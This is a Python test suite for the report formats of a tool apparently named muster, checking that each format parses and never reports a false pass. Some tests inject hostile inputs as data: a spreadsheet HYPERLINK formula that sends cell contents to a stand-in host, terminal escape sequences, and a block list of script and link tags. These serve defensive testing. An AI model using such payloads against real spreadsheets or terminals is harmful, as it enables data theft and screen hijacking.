#!/usr/bin/python3
# test: slow, about 6
"""The other formats: what reads them accepts them, and none of them says that all is well where it is not."""

import csv
import io
import json
import os
import re
import signal
import subprocess
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser

import yaml
from support import Folder, expect, expect_equal, expect_match, expect_no_match, main, muster, wait_for, write

HERE = os.path.dirname(os.path.abspath(__file__))
FORMATS = {"junit": "r.xml", "tap": "r.tap", "prometheus": "r.prom", "html": "r.html", "csv": "r.csv"}
COLUMNS = ["id", "kind", "subject", "verdict", "expected", "observed", "hint", "waived", "until", "line", "seconds", "name", "finished"]
AWKWARD = 'a \\"b\\" <c> & \\\\ # é {x} %s'
PASS = "muster: 1\nname: good\nsteps:\n  - {name: a, run: ['true']}\n"
FAIL = """muster: 1
name: "%s"
steps:
  - {name: "%s", run: [printf, 'x <b> & "\\033[31mred" \\001 # MARK\\n'], expect: {output: {never: [MARK], always: ["é <i>"]}}}
  - {name: after, run: ['true']}
artifacts:
  - {name: dump, file: out, step: after, expect: {size: {min: 1KiB}}}
""" % (AWKWARD, AWKWARD)
COVERS = """muster: 1
name: covers
inventories: {names: {items: [a, b, c]}}
steps: [{name: make, shell: "printf 'a\\nb\\n' >out"}]
artifacts: [{name: out, file: out, step: make, expect: {covers: {inventory: names, line: '^(?<item>.*)$'}}}]
"""


def run_all(path, manifest=None, verb="run", **how):
    arguments = [f"--report={name}={target}" for name, target in FORMATS.items()]
    return muster(verb, *arguments, manifest=manifest, cwd=path, **how)


def content(path, name):
    with open(os.path.join(path, FORMATS[name]), encoding="utf-8", newline="") as file:
        return file.read()


def junit(path):
    made = subprocess.run(["xmllint", "--noout", "--schema", os.path.join(HERE, "junit.xsd"), os.path.join(path, FORMATS["junit"])],
                          capture_output=True, text=True)
    expect_equal(made.returncode, 0, made.stderr)
    return ElementTree.fromstring(content(path, "junit")).find("testsuite")


class Page(HTMLParser):
    """What is on the page, as a browser would take it; that every tag is closed where it must be."""

    VOID = {"meta", "input", "col", "br", "rect"}

    def __init__(self, text):
        super().__init__()
        self.open, self.said, self.rows, self.tags, self.links, self.handlers = [], "", [], set(), [], []
        self.feed(text)
        self.close()
        expect_equal(self.open, [])

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        for name, value in attributes:
            if name in ("src", "href", "action", "data", "srcset", "xlink:href", "background"):
                self.links.append(value)
            if name.startswith("on"):
                self.handlers.append(name)
        if tag == "tr":
            self.rows.append((dict(attributes).get("class"), ""))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        self.tags.add(tag)

    def handle_endtag(self, tag):
        if tag not in self.VOID:
            expect_equal(self.open.pop(), tag, self.getpos())

    def handle_data(self, data):
        if "style" not in self.open:
            self.said += data
            if "tr" in self.open:
                self.rows[-1] = (self.rows[-1][0], self.rows[-1][1] + data)


def page(path):
    text = content(path, "html")
    seen = Page(text)
    expect(not seen.tags & {"script", "link", "img", "iframe", "object", "embed", "base", "form"}, seen.tags)
    expect_equal((set(seen.links) <= {"#checks"}, seen.handlers), (True, []), seen.links)
    expect_no_match(r"(?i)@import|url\(|https?:", "".join(re.findall(r"<style>(.*?)</style>", text, re.S)))
    expect_match("default-src 'none'", text)
    return seen


TAP = r"""use TAP::Parser; my $p = TAP::Parser->new({tap => do { local $/; <STDIN> }}); my %n;
while (my $r = $p->next) { if ($r->is_test) { my $o = $r->is_actual_ok ? "ok" : $r->has_todo ? "todo" : "not_ok";
print "$o\t", $r->description, "\n" } elsif ($r->is_unknown) { print "unknown\t", $r->as_string, "\n" } }
print "error\t$_\n" for $p->parse_errors; print "plan\t", $p->plan, "\n"; print "failed\t", scalar($p->failed), "\n";"""


def tap(path):
    """(results as perl's own parser gives them, the YAML blocks as another parser gives them)"""
    made = subprocess.run(["perl", "-e", TAP], input=content(path, "tap"), capture_output=True, text=True)
    expect_equal((made.returncode, made.stderr), (0, ""), content(path, "tap"))
    lines = [line.split("\t", 1) for line in made.stdout.splitlines()]
    expect(not [line for line in lines if line[0] in ("error", "unknown")], made.stdout + content(path, "tap"))
    blocks = re.findall(r"^  ---\n(.*?)^  \.\.\.$", content(path, "tap"), re.M | re.S)
    return lines, [yaml.safe_load(block) for block in blocks]


def metrics(path):
    text = content(path, "prometheus")
    made = subprocess.run(["promtool", "check", "metrics"], input=text, capture_output=True, text=True)
    expect_equal((made.returncode, made.stdout + made.stderr), (0, ""), text)
    values = {}
    for line in text.splitlines():
        if not line.startswith("#"):
            name, labels, value = re.fullmatch(r"(\w+)\{(.*)\} (\S+)", line).groups()
            pairs = dict(re.findall(r'(\w+)="((?:[^"\\]|\\.)*)"', labels))
            values.setdefault(name, []).append((pairs, float(value)))
    return values


def sheet(path):
    """The rows, as Python's csv reads them; each must have all columns."""
    text = content(path, "csv")
    expect_equal((text[-2:], len(re.findall("(?<!\r)\n", re.sub('"[^"]*"', "", text)))), ("\r\n", 0), text)
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    expect_equal((head, {len(row) for row in rows}), (COLUMNS, {len(COLUMNS)}), text)
    return [dict(zip(head, row)) for row in rows]


def one(values, name):
    expect_equal(len(values[name]), 1, values)
    return values[name][0][1]


def test_every_format_is_tested_here():
    with Folder() as path:
        told = muster("--help", cwd=path).out.partition("Report formats:\n")[2].partition("\n\n")[0]
        expect_equal({line.split()[0] for line in told.splitlines()}, {"json", *FORMATS})


def test_passed():
    with Folder() as path:
        run = run_all(path, PASS)
        expect_equal(run.code, 0, run)
        suite = junit(path)
        expect_equal([suite.get(key) for key in ("tests", "failures", "errors", "skipped")], ["1", "0", "0", "0"])
        expect(all(len(case) == 0 for case in suite.iter("testcase")))
        expect_match("all 1 checks were evaluated and passed", page(path).said)
        expect_equal([(row["id"], row["kind"], row["subject"], row["verdict"], row["name"]) for row in sheet(path)],
                     [("step:a/exit", "exit", "step:a", "pass", "good")])
        lines, blocks = tap(path)
        expect_equal((lines[0], lines[-2:], blocks), (["ok", "- step:a/exit"], [["plan", "1..1"], ["failed", "0"]], []))
        values = metrics(path)
        expect_equal((one(values, "muster_last_run_passed"), one(values, "muster_last_run_exit_code")), (1, 0))
        expect(one(values, "muster_last_success_timestamp_seconds") == one(values, "muster_last_run_timestamp_seconds") > 1e9)


def test_failed_and_unproven_in_each_format():
    with Folder() as path:
        run = run_all(path, FAIL)
        counts = run.report["counts"]
        expect(run.code == 1 and counts["failed"] == 2 and counts["unproven"] > 2, run)
        suite = junit(path)
        expect_equal([int(suite.get(key)) for key in ("tests", "failures", "errors", "skipped")],
                     [counts["declared"], counts["failed"], counts["unproven"], 0])
        by_id = {case.get("name"): case for case in suite.iter("testcase")}
        expect_equal(list(by_id), [check["id"] for check in run.report["checks"]])
        for check in run.report["checks"]:
            inside = {"pass": [], "fail": ["failure"], "unproven": ["error"]}[check["verdict"]]
            expect_equal([element.tag for element in by_id[check["id"]]], inside, check)
            if inside:
                expect_equal(by_id[check["id"]][0].get("message"), check["message"])
        lines, blocks = tap(path)
        not_passed = [check for check in run.report["checks"] if check["verdict"] != "pass"]
        expect_equal([line[1] for line in lines if line[0] == "not_ok"],
                     ["- " + check["id"].replace("\\", "\\\\").replace("#", "\\#") for check in not_passed])
        expect_equal([(block["message"], block["severity"], block["line"]) for block in blocks],
                     [(check["message"], check["verdict"], check["line"]) for check in not_passed])
        rows = sheet(path)
        for key in ("id", "kind", "verdict", "expected", "observed"):
            expect_equal([row[key] for row in rows], [re.sub("[\0-\x08\x0b-\x1f]", "?", check[key]) for check in run.report["checks"]])
        expect_equal([int(row["line"]) for row in rows], [check["line"] for check in run.report["checks"]])
        values = metrics(path)
        expect_equal([pairs["verdict"] for pairs, _ in values["muster_check_verdict"]],
                     [check["verdict"] for check in run.report["checks"]])
        expect_equal((one(values, "muster_last_run_passed"), one(values, "muster_last_success_timestamp_seconds")), (0, 0))
        expect_equal({pairs["verdict"]: value for pairs, value in values["muster_checks"]},
                     {"pass": counts["passed"], "fail": counts["failed"], "unproven": counts["unproven"], "waived": 0})


def test_html_tells_everything():
    with Folder() as path:
        run = run_all(path, FAIL)
        seen = page(path)
        rows = [row for row in seen.rows if row[0] and row[0].startswith("all ")]
        expect_equal([row[0].split()[1] for row in rows], [check["verdict"] for check in run.report["checks"]])
        for row, check in zip(rows, run.report["checks"]):
            for key in ("id", "expected", "observed"):
                expect(check[key] in row[1], f"{check[key]!r} is not in {row[1]!r}")
        top = seen.said[: seen.said.index("The roll")]
        for check in run.report["checks"]:
            if check["verdict"] == "fail":
                expect(check["id"] in top and check["observed"] in top, "the reason stands above the roll")
        expect_match("(?i)fail", top.splitlines()[0] + top)


def test_html_with_members_history_and_coverage():
    manifest = """muster: 1
name: tree
inventories: {names: {items: [a, b]}}
steps: [{name: make, shell: "mkdir -p db vault; echo a >db/x; tar czf inner.tgz db; tar cf vault/3.tar db inner.tgz; touch -d '1 day ago' vault/1.tar"}]
stores: {vault: {directory: {path: vault}}}
artifacts:
  - name: tar
    object: {store: vault, key: "*.tar"}
    step: make
    expect:
      size: {min: 1B, shrink: 20%}
      covers: {inventory: names, member: "db/{item}"}
      archive: {members: [{path: db/x}, {path: inner.tgz, expect: {archive: {members: [{path: archive}, "db/*"]}}}]}
"""
    with Folder() as path:
        os.utime(write(path, "vault/1.tar", b"x" * 5000), times=(1767225600,) * 2)
        write(path, "vault/2.tar", b"x" * 6000)
        run = run_all(path, manifest)
        expect_equal(run.report["artifacts"][0]["earlier"], [6000, 5000], run)
        seen = page(path)
        expect_match(r"0 of 2", seen.said)
        expect_match(r"2 backups before", seen.said)
        members = seen.said[seen.said.index("Members"):]
        for text in ("db/x", "inner.tgz", "archive failed missing", "db/*"):
            expect(text in members, members)


def test_many_checks_with_long_names():
    name = "a-very-long-name-without-any-space-in-it-" * 3
    steps = "\n".join(f"  - {{name: '{name}{i}', run: ['{'false' if i % 3 == 0 else 'true'}'], always: true}}" for i in range(90))
    with Folder() as path:
        run = run_all(path, f"muster: 1\nname: many\nsteps:\n{steps}\n")
        expect_equal((run.code, run.report["counts"]["failed"]), (1, 30))
        expect_match("and 25 more that failed", page(path).said)
        expect_equal(junit(path).get("failures"), "30")
        tap(path)
        metrics(path)


def test_last_success_outlives_failures():
    with Folder() as path:
        expect_equal(run_all(path, PASS).code, 0)
        success = one(metrics(path), "muster_last_success_timestamp_seconds")
        for _ in range(2):
            expect_equal(run_all(path, PASS.replace("'true'", "'false'")).code, 1)
            values = metrics(path)
            expect_equal(one(values, "muster_last_success_timestamp_seconds"), success)
            expect(one(values, "muster_last_run_timestamp_seconds") > success)
        expect_equal(run_all(path, PASS.replace("name: good", "name: other").replace("'true'", "'false'")).code, 1)
        expect_equal(one(metrics(path), "muster_last_success_timestamp_seconds"), 0, "that of another manifest is none")


def test_last_success_that_nobody_can_believe():
    with Folder() as path:
        for value in ("99999999999", "nan", "-5", "Inf", "", "1e999"):
            write(path, "r.prom", 'muster_last_success_timestamp_seconds{name="good",mode="run"} %s\n' % value)
            expect_equal(run_all(path, PASS.replace("'true'", "'false'")).code, 1)
            expect_equal(one(metrics(path), "muster_last_success_timestamp_seconds"), 0, value)


def test_a_report_of_before_takes_no_later_success_away():
    with Folder() as path:
        muster("run", "--report=json=fail.json", manifest=PASS.replace("'true'", "'false'"), cwd=path, report=False)
        muster("run", "--report=json=pass.json", manifest=PASS, cwd=path, report=False)
        run_all(path, PASS)
        success = one(metrics(path), "muster_last_success_timestamp_seconds")
        for name in ("fail.json", "pass.json"):
            expect_equal(muster("report", "--report=prometheus=r.prom", path=name, cwd=path).code, 0)
            expect_equal(one(metrics(path), "muster_last_success_timestamp_seconds"), success)


def test_files_of_any_year_can_be_told_of():
    manifest = PASS + "artifacts: [{name: a, file: a, expect: {size: {min: 1B}}}]\n"
    with Folder() as path:
        for when in (-3e9, 0, 1.6e10, 3e11):
            write(path, "a", "x")
            os.utime(os.path.join(path, "a"), (when, when))
            expect_equal(run_all(path, manifest).code, 0, when)
            metrics(path), junit(path), tap(path), page(path)


def test_coverage_and_sizes():
    with Folder() as path:
        run = run_all(path, COVERS)
        expect_equal(run.code, 1, run)
        expect_equal(run.check("artifact:out/covers")["coverage"], {"covered": 2, "items": 3})
        values = metrics(path)
        expect_equal(one(values, "muster_coverage_percent"), 66.666)
        expect_equal(one(values, "muster_artifact_size_bytes"), 4)


def test_ended_by_a_signal():
    with Folder() as path:
        def end(process):
            wait_for(lambda: os.path.exists(os.path.join(path, "begun")))
            process.send_signal(signal.SIGTERM)

        run = run_all(path, PASS.replace("['true']", "[sh, -c, 'touch begun; exec sleep 60']"), meanwhile=end)
        expect_equal(run.code, 128 + signal.SIGTERM, run)
        suite = junit(path)
        expect(int(suite.get("failures")) + int(suite.get("errors")) > 0)
        lines, _ = tap(path)
        expect_match(r"failed\t[1-9]", "\n".join("\t".join(line) for line in lines))
        expect_equal(one(metrics(path), "muster_last_run_passed"), 0)
        expect_match("SIGTERM", page(path).said)
        expect(any(row["verdict"] in ("fail", "unproven") for row in sheet(path)))


def test_none_says_pass_where_one_could_not_be_written():
    with Folder() as path:
        write(path, "m.yml", PASS)
        arguments = [f"--report={name}={target}" for name, target in FORMATS.items()]
        run = muster("run", *arguments, "--report=json=r.json", "--report=tap=/dev/full", path="m.yml", cwd=path, report=False)
        expect_equal(run.code, 70, run)
        expect_match("/dev/full", run.said)
        suite = junit(path)
        expect_equal((suite.get("tests"), suite.get("errors")), ("2", "1"))
        lines, _ = tap(path)
        expect_equal(lines[-1], ["failed", "1"])
        expect_equal(one(metrics(path), "muster_last_run_passed"), 0)
        expect_equal(one(metrics(path), "muster_last_success_timestamp_seconds"), 0)
        with open(os.path.join(path, "r.json"), encoding="utf-8") as file:
            expect_equal(json.load(file)["verdict"], "fail")
        expect_match("an error inside muster", page(path).said)


def test_old_reports_are_gone_when_a_run_begins():
    """Those that say what was, and not what is, stay until they are replaced."""
    with Folder() as path:
        expect_equal(run_all(path, PASS).code, 0)
        run = run_all(path, PASS.replace("['true']", "[sh, -c, 'ls r.*']"))
        expect_match(r"r\.prom", run.said)
        expect_no_match(r"r\.(xml|tap|html)", run.said)


def test_two_reports_to_one_place():
    with Folder() as path:
        for target in ("-", "r"):
            run = muster("run", f"--report=tap={target}", f"--report=junit={target}", manifest=PASS, cwd=path, report=False)
            expect_equal(run.code, 2, run)
        run = muster("run", "--report=junut=r", path="manifest.yml", cwd=path, report=False)
        expect_equal(run.code, 2, run)
        expect_match("did you mean 'junit'", run.said)


def test_a_file_named_like_standard_output_is_left_alone():
    with Folder() as path:
        write(path, "-", "mine")
        expect_equal(muster("run", "--report=tap=-", manifest=PASS, cwd=path, report=False).code, 0)
        expect(os.path.exists(os.path.join(path, "-")))


def test_secrets_are_masked():
    manifest = PASS.replace("['true']", "[sh, -c, 'exit 1', s3cret-value-of-tonight], env: {TOKEN: {env: TOKEN}}, expect: {output: {always: [s3cret-value-of-tonight]}}")
    with Folder() as path:
        run = run_all(path, manifest, env={"TOKEN": "s3cret-value-of-tonight"})
        expect_equal(run.code, 1, run)
        for name in FORMATS:
            expect_no_match("s3cret-value-of-tonight", content(path, name))
            expect_match(r"\[secret\]" if name != "prometheus" else "step:a", content(path, name))


def test_rendered_later_is_rendered_the_same():
    for manifest in (PASS, FAIL, COVERS):
        with Folder() as path:
            write(path, "m.yml", manifest)
            run = muster("run", "--report=json=r.json", *[f"--report={name}={target}" for name, target in FORMATS.items()],
                         path="m.yml", cwd=path, report=False)
            fresh = {name: content(path, name) for name in FORMATS}
            for name in FORMATS:
                made = muster("report", f"--report={name}=-", path="r.json", cwd=path)
                expect_equal(made.code, 0, made)
                if name == "prometheus" and run.code != 0:
                    continue
                expect_equal(made.out, fresh[name])
            human = muster("report", path="r.json", cwd=path)
            expect_equal(human.code, 0, human)
            expect_equal(human.out.splitlines()[-1], run.out.splitlines()[-1])
            expect_equal(json.loads(muster("report", "--report=json=-", path="r.json", cwd=path).out), json.load(open(os.path.join(path, "r.json"), encoding="utf-8")))


def test_waived_is_told_everywhere():
    """From a report, so that whatever a waiver is given for is of no matter here."""
    with Folder() as path:
        run = muster("run", manifest=PASS.replace("'true'", "'false'") + "  - {name: b, run: ['true'], always: true}\n", cwd=path)
        report = {key: value for key, value in run.report.items() if key != "_text"}
        report["checks"][0].update(verdict="waived", waiver={"reason": "a <reason> # 1", "until": "2027-01-31"})
        report["counts"].update(failed=0, waived=1)
        report.update(verdict="pass", exit_code=0)
        write(path, "r.json", json.dumps(report))
        made = muster("report", *[f"--report={name}={target}" for name, target in FORMATS.items()], path="r.json", cwd=path)
        expect_equal((made.code, made.said), (0, ""))
        suite = junit(path)
        expect_equal([suite.get(key) for key in ("tests", "failures", "errors", "skipped")], ["2", "0", "0", "1"])
        expect_match(r"waived: a <reason> # 1\nuntil: 2027-01-31", next(suite.iter("skipped")).text)
        lines, blocks = tap(path)
        expect_equal((lines[0][0], lines[-1], blocks[0]["waived"]), ("todo", ["failed", "0"], "a <reason> # 1"))
        values = metrics(path)
        expect_equal([pairs["verdict"] for pairs, _ in values["muster_check_verdict"]], ["waived", "pass"])
        row = sheet(path)[0]
        expect_equal((row["verdict"], row["waived"], row["until"]), ("waived", "a <reason> # 1", "2027-01-31"))
        said = page(path).said
        expect("a <reason> # 1" in said and "of 2 checks 1 passed, 1 waived" in said, said)
        human = muster("report", path="r.json", cwd=path)
        expect_match(r"^WAIVED +step:a/exit$", human.out)
        expect_match("a <reason> # 1", human.out)


def test_notifications_are_told():
    with Folder() as path:
        run = muster("run", manifest=PASS, cwd=path)
        report = {key: value for key, value in run.report.items() if key != "_text"}
        report["notifications"] = [{"kind": "ping", "sent": True, "status": 200, "trouble": None},
                                   {"kind": "webhook", "sent": False, "status": None, "trouble": "cannot <connect>"}]
        write(path, "r.json", json.dumps(report))
        expect_equal(muster("report", *[f"--report={name}={target}" for name, target in FORMATS.items()], path="r.json", cwd=path).code, 0)
        values = {element.get("name"): element.get("value") for element in junit(path).iter("property")}
        expect_equal((values["notification.0.ping"], values["notification.1.webhook"]), ("sent", "cannot <connect>"))
        tap(path)
        expect_match("^# webhook: not sent: cannot <connect>$", content(path, "tap"))
        expect_equal({pairs["outcome"]: value for pairs, value in metrics(path)["muster_notifications"]}, {"sent": 1, "failed": 1})
        expect_match("webhook: not sent cannot <connect>", page(path).said)


def test_a_step_that_was_tried_again_lasts_from_its_first_attempt():
    with Folder() as path:
        run = run_all(path, PASS.replace("['true']", "['false'], retry: {attempts: 3, wait: 100ms}"))
        step = run.report["steps"][0]
        expect(step["finished"] > step["started"], step)
        expect_match("3 attempts", page(path).said)


def altered(report, change):
    copy = json.loads(json.dumps(report))
    change(copy)
    return json.dumps(copy)


def test_an_altered_report_is_none():
    with Folder() as path:
        run = muster("run", manifest=FAIL, cwd=path)
        report = {key: value for key, value in run.report.items() if key != "_text"}

        def all_pass(r):
            for check in r["checks"]:
                check["verdict"] = "pass"

        changes = [lambda r: r.update(verdict="pass"), lambda r: r.update(exit_code=0), lambda r: r.update(verdict="pass", exit_code=0),
                   all_pass, lambda r: r["checks"].pop(), lambda r: r["checks"].append(r["checks"][0]), lambda r: r["counts"].update(failed=0),
                   lambda r: r.update(checks=[]), lambda r: r.pop("counts"), lambda r: r.update(muster=2), lambda r: r.update(checks=None),
                   lambda r: r["checks"][0].update(verdict="passed"), lambda r: r["checks"][0].update(line=-1),
                   lambda r: r["run"].update(finished="yesterday"), lambda r: r["steps"][0].update(seconds="1"),
                   lambda r: r.update(exit_code=5), lambda r: r.update(exit_code=300), lambda r: r.update(name=""),
                   lambda r: r.update(artifacts=[3]), lambda r: r["steps"][0].update(stages=[{"argv": [1]}])]
        for number, change in enumerate(changes):
            write(path, "r.json", altered(report, change))
            made = muster("report", "--report=tap=out.tap", path="r.json", cwd=path)
            expect_equal(made.code, 3, f"{number}: {made}")
            expect(not os.path.exists(os.path.join(path, "out.tap")), number)
        text = json.dumps(report)
        for length in range(0, len(text), 297):
            expect_equal(muster("report", "-q", path="-", stdin=text[:length], cwd=path).code, 3, length)
        expect_equal(muster("report", "-q", path="-", stdin=text + "{}", cwd=path).code, 3)
        expect_equal(muster("report", "-q", path="-", stdin=text, cwd=path).code, 0)
        expect_equal(muster("report", path="nowhere.json", cwd=path).code, 2)


def test_a_cell_is_no_formula():
    with Folder() as path:
        run = muster("run", manifest=PASS.replace("'true'", "'false'"), cwd=path)
        report = {key: value for key, value in run.report.items() if key != "_text"}
        for begin in "=+-@\t\r\n":
            formula = begin + 'HYPERLINK("http://e.example/?x="&A1,"click")'
            report["checks"][0].update(id=formula, kind=formula, expected=formula, observed=formula, hint=formula)
            report["name"] = formula
            made = muster("report", "--report=csv=r.csv", path="-", stdin=json.dumps(report), cwd=path)
            expect_equal((made.code, made.said), (0, ""))
            row, = sheet(path)
            safe = "'" + formula.replace("\r", "?")
            expect_equal([row[key] for key in ("id", "kind", "expected", "observed", "hint", "name")], [safe] * 6)
            expect_equal(row["subject"], safe.partition("/")[0])


def test_what_failed_besides_the_checks_has_a_row():
    """A sheet in which every row passed would say that all is well."""
    with Folder() as path:
        run = muster("run", manifest=PASS, cwd=path)
        report = {key: value for key, value in run.report.items() if key != "_text"}
        report.update(verdict="fail", exit_code=70)
        expect_equal(muster("report", "--report=csv=r.csv", path="-", stdin=json.dumps(report), cwd=path).code, 0)
        expect_equal([(row["id"], row["verdict"]) for row in sheet(path)], [("step:a/exit", "pass"), ("run", "fail")])
        expect_match("an error inside muster", sheet(path)[1]["observed"])


def test_a_report_cannot_command_a_terminal():
    with Folder() as path:
        run = muster("run", manifest=PASS.replace("'true'", "'false'"), cwd=path)
        report = {key: value for key, value in run.report.items() if key != "_text"}
        report["checks"][0].update(id="a\x1b]0;t\x07\u009b31m", observed="\x1b[2J", expected="\x1b[2J", hint="\x1b[2J")
        report.update(name="\x1b[2J")
        made = muster("report", path="-", stdin=json.dumps(report), cwd=path)
        expect_equal(made.code, 0, made)
        expect_no_match("[\x00-\x08\x0b-\x1f\x7f-\x9f]", made.out)
        report["checks"].append(report["checks"][0])
        made = muster("report", path="-", stdin=json.dumps(report), cwd=path)
        expect_equal(made.code, 3, made)
        expect_no_match("[\x00-\x08\x0b-\x1f\x7f-\x9f]", made.said)


main()
